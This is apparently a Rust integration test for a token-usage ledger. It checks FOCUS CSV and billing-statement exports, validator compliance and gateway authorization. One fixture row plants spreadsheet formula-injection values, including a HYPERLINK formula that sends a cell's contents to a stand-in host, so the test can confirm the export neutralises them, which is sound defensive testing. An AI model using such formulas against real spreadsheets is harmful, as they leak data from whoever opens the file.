//! The finance exports as an operator runs them: `processor export focus` writes a dataset that
//! the FinOps Foundation's focus-validator (1.0.0, FOCUS 1.0) accepts without a single failed
//! check, the same bytes to a file and to stdout; `processor export statement` writes JSON whose
//! total is the ledger's.
//!
//! focus-validator 1.0.0 still checks four columns under their names from the 1.0 preview
//! (`InvoiceIssuer`, `Provider`, `Publisher`, `ResourceID`; FOCUS 1.0 renamed them
//! `InvoiceIssuerName`, `ProviderName`, `PublisherName`, `ResourceId`) and one rule reads the
//! preview's `ChargeType` (now `ChargeCategory`). The export writes the 1.0 names; the test
//! validates a copy with those headers renamed back and `ChargeType` added from
//! `ChargeCategory`, so every rule of the validator runs on the exported values, with no rule
//! skipped.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use crate::admin_gateway::{self, get};
use e2e::{required_path, Binary, Database};

const COMMAND_TIMEOUT: Duration = Duration::from_secs(120);

/// Generated usage over a month boundary: three tenants, labelled and unlabelled, priced,
/// caller-priced and unpriced models, reasoning and cache tokens.
async fn insert_usage(db: &Database) {
    let client = db.client().await;
    let mut values = Vec::new();
    let tenants = ["acme", "globex", "initech"];
    let models = [
        ("openai", "gpt-4o", "priced"),
        ("anthropic", "claude-sonnet-4-5", "priced"),
        ("homegrown", "unpriced-llm", "unpriced"),
        ("openai", "o3", "provided"),
    ];
    let labels = [
        r#"{"use_case": "support-bot"}"#,
        r#"{"use_case": "code, gen", "team": "core"}"#,
        "{}",
    ];
    for i in 0..240_u32 {
        let tenant = tenants[i as usize % 3];
        let (provider, model, status) = models[(i as usize / 3) % 4];
        let label = labels[(i as usize / 5) % 3];
        let prompt = 1_000 + i * 37;
        let cached = i * 3;
        let cache_write = i % 7 * 10;
        let completion = 100 + i * 11;
        let reasoning = if model == "o3" { i * 2 } else { 0 };
        let cost = if status == "unpriced" {
            "0".to_owned()
        } else {
            format!("0.{:010}", 12_345 + u64::from(i) * 7_919)
        };
        // 2026-01-25 .. 2026-02-04, every 1h07m
        let minutes = i * 67;
        values.push(format!(
            "(gen_random_uuid(), '{tenant}', '{provider}', '{model}', {prompt}, {completion}, \
             {total}, {cost}, TIMESTAMPTZ '2026-01-25 00:00:00+00' + INTERVAL '{minutes} minutes', \
             {cached}, {cache_write}, {reasoning}, '{status}', '{label}'::jsonb, \
             TIMESTAMPTZ '2026-02-10 00:00:00+00', '\\x00'::bytea, 0, {i})",
            total = prompt + completion
        ));
    }
    // A hostile tenant's model name and label value, which a spreadsheet would run as formulas.
    values.push(
        "(gen_random_uuid(), 'acme', 'homegrown', '=HYPERLINK(\"http://x.invalid/?\"&A2,\"x\")', \
         10, 10, 20, 0.5, TIMESTAMPTZ '2026-01-26 00:00:00+00', 0, 0, 0, 'provided', \
         '{\"use_case\": \"=1+1\", \"team\": \"@SUM(A1)\"}'::jsonb, \
         TIMESTAMPTZ '2026-02-10 00:00:00+00', '\\x00'::bytea, 0, 240)"
            .to_owned(),
    );
    let sql = format!(
        "INSERT INTO gateway_mode_audit (id, tenant_id, provider, model, prompt_tokens, \
         completion_tokens, total_tokens, estimated_cost, created_at, cached_prompt_tokens, \
         cache_write_tokens, reasoning_tokens, pricing_status, labels, received_at, \
         payload_sha256, source_partition, source_offset) VALUES {}",
        values.join(",\n")
    );
    client
        .batch_execute(&sql)
        .await
        .unwrap_or_else(|e| panic!("inserting usage: {e}"));
}

/// Runs `processor <args>` against `db` to completion, attributing by `use_case` and `team`.
async fn processor(db: &Database, args: &[&str]) -> Output {
    let config = db.data_dir().with_extension("processor.toml");
    std::fs::write(
        &config,
        "[attribution]\nlabels = [\"use_case\", \"team\"]\n",
    )
    .expect("write the processor configuration");
    let mut command = tokio::process::Command::new(Binary::path("processor"));
    command
        .arg("--config")
        .arg(&config)
        .args(args)
        .env("TOKENLEDGER_DATABASE__URL", db.url())
        .env("TOKENLEDGER_LOG", "warn")
        .kill_on_drop(true);
    let output = tokio::time::timeout(COMMAND_TIMEOUT, command.output())
        .await
        .unwrap_or_else(|_| panic!("processor {args:?} did not finish in {COMMAND_TIMEOUT:?}"))
        .unwrap_or_else(|e| panic!("cannot run processor {args:?}: {e}"));
    assert!(
        output.status.success(),
        "processor {args:?} failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output
}

/// The exported CSV with the preview-era names focus-validator 1.0.0 checks (see the module
/// docs). Every line ends in a `ChargeType` field copied from `ChargeCategory`, which the export
/// always sets to `Usage`.
fn with_validator_names(csv: &str) -> String {
    let mut lines = csv.lines();
    let header = lines.next().expect("a header line");
    let mut columns: Vec<String> = header.split(',').map(str::to_owned).collect();
    for column in &mut columns {
        let renamed = match column.as_str() {
            "InvoiceIssuerName" => "InvoiceIssuer",
            "ProviderName" => "Provider",
            "PublisherName" => "Publisher",
            "ResourceId" => "ResourceID",
            _ => continue,
        };
        *column = renamed.to_owned();
    }
    let mut out = format!("{},ChargeType\n", columns.join(","));
    for line in lines {
        assert!(line.contains(",Usage,"), "ChargeCategory is Usage: {line}");
        out.push_str(line);
        out.push_str(",Usage\n");
    }
    out
}

/// The fields of one CSV line (RFC 4180 quoting; the exports put no line break in a field).
fn csv_fields(line: &str) -> Vec<String> {
    let mut fields = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                fields.last_mut().expect("a field").push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => fields.push(String::new()),
            (c, _) => fields.last_mut().expect("a field").push(c),
        }
    }
    fields
}

/// focus-validator's verdict on `file`: Ok, or the failures it printed. It exits 0 whatever it
/// finds, so its output is read instead.
async fn validate(file: &Path) -> Result<(), String> {
    let bin = required_path("TOKENLEDGER_FOCUS_VALIDATOR_BIN");
    let site = std::env::var_os("TOKENLEDGER_FOCUS_VALIDATOR_DIR")
        .map(PathBuf::from)
        .filter(|dir| {
            dir.join("focus_validator/utils/currency_codes.csv")
                .is_file()
        })
        .unwrap_or_else(|| {
            panic!(
                "TOKENLEDGER_FOCUS_VALIDATOR_DIR does not name focus-validator's site-packages: \
                 run `scripts/services.sh install && eval \"$(scripts/services.sh env)\"`"
            )
        });
    let mut command = tokio::process::Command::new(bin);
    command
        .args(["--validate-version", "1.0", "--data-file"])
        .arg(file)
        .current_dir(site)
        .kill_on_drop(true);
    let output = tokio::time::timeout(COMMAND_TIMEOUT, command.output())
        .await
        .expect("focus-validator finishes")
        .expect("focus-validator runs");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let passed = text.contains("Validation succeeded.")
        && !text.contains("Validation failed")
        && !text.contains("Errors encountered");
    if passed {
        Ok(())
    } else {
        Err(text)
    }
}

fn temp_dir() -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix("tokenledger-exports-")
        .tempdir()
        .expect("temporary directory")
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write file");
    path
}

#[tokio::test]
async fn the_focus_export_passes_focus_validator_and_statements_add_up() {
    let db = Database::start().await;
    processor(&db, &["migrate"]).await;
    insert_usage(&db).await;
    let dir = temp_dir();
    let file = dir.path().join("focus.csv");
    let file_arg = file.to_string_lossy().into_owned();
    let range = ["--from", "2026-01-01", "--to", "2026-03-01"];
    let mut args = vec!["export", "focus"];
    args.extend(range);
    args.extend(["--output", file_arg.as_str()]);
    processor(&db, &args).await;
    let exported = std::fs::read_to_string(&file).expect("export file");
    assert!(
        !dir.path().join("focus.partial").exists(),
        "no partial file left"
    );

    let mut args = vec!["export", "focus"];
    args.extend(range);
    args.extend(["--output", "-"]);
    let stdout = processor(&db, &args).await.stdout;
    assert_eq!(
        String::from_utf8_lossy(&stdout),
        exported,
        "file and stdout differ"
    );
    assert!(exported.lines().count() > 100, "{exported}");
    assert!(exported.contains(",unpriced,"), "unpriced usage is kept");
    assert!(exported.contains("x_Label_use_case,x_Label_team"));

    let cells: Vec<String> = exported.lines().flat_map(csv_fields).collect();
    for formula in ["=HYPERLINK", "=1+1", "@SUM(A1)"] {
        assert!(
            cells
                .iter()
                .any(|cell| cell.starts_with(&format!("'{formula}"))),
            "{formula} is in the export, neutralised"
        );
    }
    let formulas: Vec<&String> = cells
        .iter()
        .filter(|cell| cell.starts_with(['=', '+', '@', '\t', '\r']))
        .chain(
            cells
                .iter()
                .filter(|cell| cell.starts_with('-') && cell.parse::<f64>().is_err()),
        )
        .collect();
    assert!(
        formulas.is_empty(),
        "cells a spreadsheet runs: {formulas:?}"
    );
    let renamed = write(dir.path(), "renamed.csv", &with_validator_names(&exported));
    if let Err(report) = validate(&renamed).await {
        panic!("focus-validator found violations:\n{report}");
    }
    // The verdict is read correctly: a broken copy fails.
    let broken = with_validator_names(&exported).replacen(",Usage-Based,", ",Sometimes,", 1);
    let broken = write(dir.path(), "broken.csv", &broken);
    assert!(validate(&broken).await.is_err(), "a broken file must fail");

    let json = processor(
        &db,
        &[
            "export",
            "statement",
            "--month",
            "2026-01",
            "--tenant",
            "acme",
            "--format",
            "json",
            "--output",
            "-",
        ],
    )
    .await
    .stdout;
    let statement: serde_json::Value = serde_json::from_slice(&json).expect("statement JSON");
    let client = db.client().await;
    let raw: String = client
        .query_one(
            "SELECT sum(estimated_cost)::text FROM gateway_mode_audit WHERE tenant_id = 'acme'
             AND created_at >= '2026-01-01' AND created_at < '2026-02-01'",
            &[],
        )
        .await
        .expect("raw sum")
        .get(0);
    let billed = statement["total"]["billed_cost"].as_str().expect("billed");
    assert_eq!(
        billed.trim_end_matches('0'),
        raw.trim_end_matches('0'),
        "{statement}"
    );
    assert_eq!(statement["tenants"][0]["tenant_id"], "acme");

    // The rows were inserted directly, so the use-case rollup is empty until rebuilt from them;
    // then `processor report` shows cost by use case for every configured key.
    processor(
        &db,
        &[
            "rebuild-attribution",
            "--from",
            "2026-01-01",
            "--to",
            "2026-03-01",
        ],
    )
    .await;
    let report = processor(&db, &["report", "--days", "3650"]).await.stdout;
    let report = String::from_utf8_lossy(&report);
    for line in ["use_case=support-bot", "use_case=(unlabelled)", "team=core"] {
        assert!(report.contains(line), "{line} missing:\n{report}");
    }
}

const ADMIN_KEY: &str = "exports-test-admin-key-0123456789";
const ACME_KEY: &str = "exports-test-acme-key-0123456789";

#[tokio::test]
async fn the_gateway_serves_admins_the_same_bytes_as_the_processor() {
    let db = Database::start().await;
    processor(&db, &["migrate"]).await;
    insert_usage(&db).await;
    let dir = temp_dir();
    let (_gateway, base) = admin_gateway::start(
        &db,
        dir.path(),
        "[exports]\nattribution_labels = [\"use_case\", \"team\"]\n\n",
        ADMIN_KEY,
        ACME_KEY,
    )
    .await;

    let cli = processor(
        &db,
        &[
            "export",
            "focus",
            "--from",
            "2026-01-01",
            "--to",
            "2026-03-01",
            "--output",
            "-",
        ],
    )
    .await
    .stdout;
    let focus = format!("{base}/v1/exports/focus?from=2026-01-01&to=2026-03-01");
    let (status, http) = get(&focus, ADMIN_KEY).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&http));
    assert!(cli.len() > 10_000);
    assert!(http == cli, "HTTP and CLI FOCUS exports differ");

    let cli = processor(
        &db,
        &[
            "export",
            "statement",
            "--month",
            "2026-02",
            "--tenant",
            "globex",
            "--format",
            "json",
            "--output",
            "-",
        ],
    )
    .await
    .stdout;
    let statement = format!("{base}/v1/exports/statement?month=2026-02&tenant=globex&format=json");
    let (status, http) = get(&statement, ADMIN_KEY).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&http));
    assert!(http == cli, "HTTP and CLI statements differ");

    let (status, body) = get(&focus, ACME_KEY).await;
    assert_eq!(
        status,
        403,
        "a tenant key is refused: {}",
        String::from_utf8_lossy(&body)
    );
    let (status, _) = get(
        &format!("{base}/v1/exports/statement?month=2026-02"),
        ACME_KEY,
    )
    .await;
    assert_eq!(status, 403);
    let (status, body) = get(
        &format!("{base}/v1/exports/focus?from=2026-02-01&to=2026-01-01"),
        ADMIN_KEY,
    )
    .await;
    assert_eq!(status, 400, "{}", String::from_utf8_lossy(&body));
    let (status, _) = get(
        &format!("{base}/v1/exports/statement?month=2026-13"),
        ADMIN_KEY,
    )
    .await;
    assert_eq!(status, 400);
    let (status, _) = get(&focus, "not-a-key").await;
    assert_eq!(status, 401);
}
